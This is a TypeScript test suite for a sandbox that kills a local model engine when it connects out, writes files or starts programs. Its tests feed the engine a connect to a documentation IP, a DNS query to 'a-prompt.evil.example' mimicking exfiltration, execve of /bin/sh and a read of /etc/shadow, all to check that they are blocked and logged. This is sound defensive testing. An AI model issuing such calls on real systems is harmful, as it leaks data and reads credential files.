// Quarantine in the warden: what aims outside, at programs or at files to write is the engine's last attempt; where it
// went is known, other denials are only recorded, and what it had in its hands is listed.
import { onlyOn } from '@minikeep/testkit';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Strike, GRACE_MS_MAX } from '../src/warden/strike.ts';
import { mappedFrom } from '../src/warden/last-look.ts';
import { Attacked, dnsQuestion, hostileFolder, inet } from './hostile/attacked.ts';

const AF_INET = 2;
const [STREAM, DGRAM] = [1, 2];
const O_WRONLY = 1;
const AT_FDCWD = { big: String(2n ** 64n - 100n) };
const GONE = /ended/;

describe('the policy', () => {
  const attempt = (kind: 'network' | 'read', played?: true) => ({
    kind,
    operation: 'x',
    target: '',
    ...(played === undefined ? {} : { played }),
  });
  it('strikes at once, or when what is played out has had its time', () => {
    let now = 0;
    const strike = new Strike('strike', () => now);
    expect(strike.on(attempt('read'))).toBe('record');
    expect([strike.on(attempt('network', true)), strike.due()]).toEqual(['record', false]);
    now = GRACE_MS_MAX - 1;
    expect(strike.on(attempt('network', true))).toBe('record');
    now = GRACE_MS_MAX;
    expect([strike.due(), strike.pending?.kind]).toEqual([true, 'network']);
    expect(new Strike('strike', () => 0).on(attempt('network'))).toBe('strike');
  });
  it('only records, where that is all that is wanted', () => {
    const strike = new Strike('record', () => 1e9);
    expect([strike.on(attempt('network', true)), strike.on(attempt('network'))]).toEqual([
      'record',
      'record',
    ]);
    expect(strike.due()).toBe(false);
  });
  it('lists memory by file and rights, in bytes', () => {
    const maps = [
      '1000-3000 r--p 00000000 fe:00 17 /x/model.gguf',
      '3000-4000 r--p 00002000 fe:00 17 /x/model.gguf',
      '7f00-8f00 rw-p 00000000 00:00 0 ',
      'nonsense',
    ].join('\n');
    expect(mappedFrom(maps)).toEqual([
      'r--p 12288 bytes /x/model.gguf',
      'rw-p 4096 bytes anonymous',
    ]);
  });
});

describe('an engine under it', () => {
  let place: ReturnType<typeof hostileFolder>;
  beforeAll(() => {
    if (process.platform === 'linux') place = hostileFolder();
  });
  afterAll(() => place?.cleanUp());
  beforeEach((ctx) => onlyOn(ctx, 'linux'));

  const begin = async (): Promise<Attacked> =>
    (await Attacked.start(place.folder, { policy: 'strike' })).sealed();
  /** The last violation and the end, in short. */
  const ended = async (engine: Attacked) => {
    const { struck, signal } = await engine.sandbox.exited;
    const { kind, operation, target, stopped } = engine.violations.at(-1) ?? {};
    return {
      signal,
      last: `${kind} ${operation} ${target}`,
      stopped,
      struck: `${struck?.kind} ${struck?.operation}`,
      mapped: struck?.mapped ?? [],
      open: struck?.open ?? [],
    };
  };

  it('is stopped at its first connection, and where to is known', async () => {
    const engine = await begin();
    const { result: fd } = await engine.call('socket', AF_INET, STREAM, 0);
    expect(fd).toBeGreaterThan(0);
    const address = { hex: inet('192.0.2.7', 443) };
    await expect(engine.call('connect', fd, address, 16)).rejects.toThrow(GONE);
    const { mapped, open, ...rest } = await ended(engine);
    expect(rest).toEqual({
      signal: 'SIGKILL',
      last: 'network connect inet 192.0.2.7:443',
      stopped: true,
      struck: 'network connect',
    });
    expect(mapped.some((line) => /^r-xp \d+ bytes .*node$/.test(line))).toBe(true);
    expect(open.length).toBeGreaterThan(2);
  });

  it('is stopped when it has asked its question, and the question is known', async () => {
    const engine = await begin();
    const { result: fd } = await engine.call('socket', AF_INET, DGRAM, 0);
    const resolver = { hex: inet('192.0.2.53', 53) };
    expect((await engine.call('connect', fd, resolver, 16)).result).toBe(0);
    const question = dnsQuestion('a-prompt.evil.example');
    const asked = engine.call('sendto', fd, { hex: question }, question.length / 2, 0, 0, 0);
    await expect(asked).rejects.toThrow(GONE);
    const { last, struck } = await ended(engine);
    expect(last).toMatch(/^dns sendto .*a-prompt\.evil\.example/);
    expect(struck).toBe('dns sendto');
  });

  it('that only asks for a socket has two seconds', async () => {
    const engine = await begin();
    const begun = performance.now();
    expect((await engine.call('socket', AF_INET, STREAM, 0)).result).toBeGreaterThan(0);
    const { struck } = await ended(engine);
    expect(struck).toBe('network socket');
    expect(performance.now() - begun).toBeGreaterThan(GRACE_MS_MAX - 100);
  });

  it('is stopped when it wants to write or to start a program', async () => {
    for (const [order, struck] of [
      [(e: Attacked) => e.call('openat', AT_FDCWD, { s: '/tmp/x' }, O_WRONLY, 0), /^write openat$/],
      [(e: Attacked) => e.call('execve', { s: '/bin/sh' }, 0, 0), /^exec execve$/],
    ] as const) {
      const engine = await begin();
      await expect(order(engine)).rejects.toThrow(GONE);
      expect((await ended(engine)).struck).toMatch(struck);
    }
  });

  it('goes on after another denial, which is recorded', async () => {
    const engine = await begin();
    const seen = await engine.provoke(async () => {
      expect((await engine.call('openat', AT_FDCWD, { s: '/etc/shadow' }, 0, 0)).result).toBe(-1);
    });
    expect(seen).toMatchObject([{ kind: 'read', operation: 'openat', stopped: false }]);
    await engine.end();
  });
});
